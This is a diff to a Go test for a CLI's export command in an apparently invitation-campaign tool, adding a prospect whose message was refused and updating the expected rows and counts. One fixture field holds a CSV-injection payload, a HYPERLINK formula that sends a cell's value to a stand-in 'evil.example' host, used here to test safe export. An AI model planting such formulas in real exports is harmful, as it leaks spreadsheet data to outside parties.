@@ -28,7 +28,7 @@ import (
 //	cy   declined (short, missing_field)   di  withdrawn (bob, blank)
 //	ed   failed invalid_profile            flo skipped: the platform said duplicate
 //	gus  queued                            hal skipped: excluded
-//	+1 555 0100 queued, with hostile fields
+//	ivy  accepted, her message refused     +1 555 0100 queued, hostile fields
 //
 // and other's zoe accepted.
 func exportWorkspace(t *testing.T, srv *redistest.Server) (cfg, dir string) {
@@ -67,10 +67,11 @@ func exportWorkspace(t *testing.T, srv *redistest.Server) (cfg, dir string) {
 			t.Fatal(err)
 		}
 	}
-	task := func(kind wire.Kind, step int, camp, acct, person string, when time.Time) {
+	task := func(kind wire.Kind, step int, camp, acct, person string, when time.Time, o wire.Outcome) {
 		t.Helper()
 		tk := wire.Task{Kind: kind, At: when, Account: acct, Campaign: camp, Person: person, Key: fmt.Sprintf("%s/%s/%s%d", camp, person, kind, step), Step: step}
-		if err := led.AppendOutcome(ctx, tk, wire.Outcome{Kind: wire.Delivered, At: when}); err != nil {
+		o.At = when
+		if err := led.AppendOutcome(ctx, tk, o); err != nil {
 			t.Fatal(err)
 		}
 	}
@@ -81,12 +82,15 @@ func exportWorkspace(t *testing.T, srv *redistest.Server) (cfg, dir string) {
 	invite("leads", "bob", "di@example.com", at(3*time.Minute), "blank", 0, "note_allowance", ok)
 	invite("leads", "alice", "ed@example.com", at(4*time.Minute), "company", 28, "", wire.Outcome{Kind: wire.Refused, Code: platform.CodeInvalidProfile})
 	invite("leads", "alice", "flo@example.com", at(5*time.Minute), "company", 29, "", wire.Outcome{Kind: wire.Refused, Code: platform.CodeDuplicate})
-	invite("other", "bob", "zoe@example.com", at(6*time.Minute), "blank", 0, "", ok)
+	invite("leads", "alice", "ivy@example.com", at(6*time.Minute), "company", 30, "", ok)
+	invite("other", "bob", "zoe@example.com", at(7*time.Minute), "blank", 0, "", ok)
 	event(platform.EventAccepted, "leads", "alice", "bo@example.com", at(3*time.Hour))
 	event(platform.EventDeclined, "leads", "alice", "cy@example.com", at(4*time.Hour))
 	event(platform.EventAccepted, "other", "bob", "zoe@example.com", at(5*time.Hour))
-	task(wire.KindMessage, 0, "leads", "alice", "bo@example.com", at(27*time.Hour))
-	task(wire.KindWithdraw, 0, "leads", "bob", "di@example.com", at(21*24*time.Hour))
+	event(platform.EventAccepted, "leads", "alice", "ivy@example.com", at(6*time.Hour))
+	task(wire.KindMessage, 0, "leads", "alice", "bo@example.com", at(27*time.Hour), ok)
+	task(wire.KindMessage, 0, "leads", "alice", "ivy@example.com", at(30*time.Hour), wire.Outcome{Kind: wire.Refused, Code: platform.CodeNotConnected})
+	task(wire.KindWithdraw, 0, "leads", "bob", "di@example.com", at(21*24*time.Hour), ok)
 	return cfg, dir
 }
 
@@ -131,7 +135,7 @@ func TestExport(t *testing.T) {
 		t.Errorf("header %q, want %q", header, wantHeader)
 	}
 	wantOrder := []string{"leads/ann@example.com", "leads/bo@example.com", "leads/cy@example.com", "leads/di@example.com", "leads/ed@example.com",
-		"leads/flo@example.com", "leads/gus@example.com", "leads/hal@example.com", "leads/'+1 555 0100", "other/ann@example.com", "other/zoe@example.com"}
+		"leads/flo@example.com", "leads/gus@example.com", "leads/hal@example.com", "leads/ivy@example.com", "leads/'+1 555 0100", "other/ann@example.com", "other/zoe@example.com"}
 	if !slices.Equal(order, wantOrder) {
 		t.Errorf("rows %q, want %q", order, wantOrder)
 	}
@@ -144,9 +148,10 @@ func TestExport(t *testing.T) {
 		"leads/flo@example.com": "alice skipped - - - - - - already_invited",
 		"leads/gus@example.com": "- queued - - - - - - -",
 		"leads/hal@example.com": "- skipped - - - - - - excluded",
+		"leads/ivy@example.com": "alice messaged company 30 - 2026-11-02T09:06:01Z 2026-11-02T15:00:00Z - message_not_connected",
 		"leads/'+1 555 0100":    "- queued - - - - - - -",
 		"other/ann@example.com": "- queued - - - - - - -",
-		"other/zoe@example.com": "bob accepted blank 0 - 2026-11-02T09:06:01Z 2026-11-02T14:00:00Z - -",
+		"other/zoe@example.com": "bob accepted blank 0 - 2026-11-02T09:07:01Z 2026-11-02T14:00:00Z - -",
 	} {
 		r := rows[id]
 		var got []string
@@ -173,11 +178,11 @@ func TestExport(t *testing.T) {
 
 	// Campaigns filter, in the order named.
 	code, stdout, _ = runCLI(t, "--config", cfg, "export", "other", "leads")
-	if _, _, order := readCSV(t, stdout); code != ExitOK || !slices.Equal(order, append(slices.Clone(wantOrder[9:]), wantOrder[:9]...)) {
+	if _, _, order := readCSV(t, stdout); code != ExitOK || !slices.Equal(order, append(slices.Clone(wantOrder[10:]), wantOrder[:10]...)) {
 		t.Errorf("export other leads: exit %d, rows %q", code, order)
 	}
 	code, stdout, _ = runCLI(t, "--config", cfg, "export", "other")
-	if header, _, order := readCSV(t, stdout); code != ExitOK || !slices.Equal(order, wantOrder[9:]) || len(header) != 11 {
+	if header, _, order := readCSV(t, stdout); code != ExitOK || !slices.Equal(order, wantOrder[10:]) || len(header) != 11 {
 		t.Errorf("export other: exit %d, header %q, rows %q", code, header, order)
 	}
 
@@ -188,8 +193,8 @@ func TestExport(t *testing.T) {
 	}
 	golden.Check(t, "testdata/golden/export_leads.jsonl", stdout)
 	lines := strings.Split(strings.TrimSuffix(stdout, "\n"), "\n")
-	if len(lines) != 9 {
-		t.Fatalf("%d JSONL lines, want 9", len(lines))
+	if len(lines) != 10 {
+		t.Fatalf("%d JSONL lines, want 10", len(lines))
 	}
 	var hostile struct {
 		Key        string
@@ -197,19 +202,19 @@ func TestExport(t *testing.T) {
 		NoteLength *int `json:"note_length"`
 		Fields     map[string]string
 	}
-	if err := json.Unmarshal([]byte(lines[8]), &hostile); err != nil || hostile.Key != "+1 555 0100" || hostile.State != "queued" ||
+	if err := json.Unmarshal([]byte(lines[9]), &hostile); err != nil || hostile.Key != "+1 555 0100" || hostile.State != "queued" ||
 		hostile.NoteLength != nil || hostile.Fields["first_name"] != `=HYPERLINK("http://evil.example/?"&A1,"click")` || hostile.Fields["company"] != "@corp" {
-		t.Errorf("JSONL hostile row: %+v %v\n%s", hostile, err, lines[8])
+		t.Errorf("JSONL hostile row: %+v %v\n%s", hostile, err, lines[9])
 	}
 
 	// --out: the file, its summary, readable by the owner only.
 	out := filepath.Join(dir, "results.csv")
 	code, stdout, stderr = runCLI(t, "--config", cfg, "export", "--out", out, "leads")
-	if code != ExitOK || stdout != "exported 9 prospects to "+out+"\n" || stderr != "" {
+	if code != ExitOK || stdout != "exported 10 prospects to "+out+"\n" || stderr != "" {
 		t.Errorf("export --out: exit %d\n%s%s", code, stdout, stderr)
 	}
 	data, err := os.ReadFile(out)
-	if _, rows, _ := readCSV(t, string(data)); err != nil || len(rows) != 9 {
+	if _, rows, _ := readCSV(t, string(data)); err != nil || len(rows) != 10 {
 		t.Errorf("the file holds %d rows (%v)", len(rows), err)
 	}
 	if st, err := os.Stat(out); err != nil || st.Mode().Perm() != 0o600 {
